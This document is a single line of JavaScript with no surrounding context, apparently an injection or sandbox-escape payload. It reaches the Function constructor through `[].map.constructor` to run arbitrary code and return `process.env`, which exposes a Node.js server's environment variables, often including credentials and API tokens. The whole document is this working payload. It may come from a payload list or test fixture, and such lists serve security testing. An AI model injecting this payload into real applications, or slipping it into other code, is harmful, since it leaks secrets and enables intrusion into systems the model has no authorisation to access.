[].map.constructor('return process.env')();
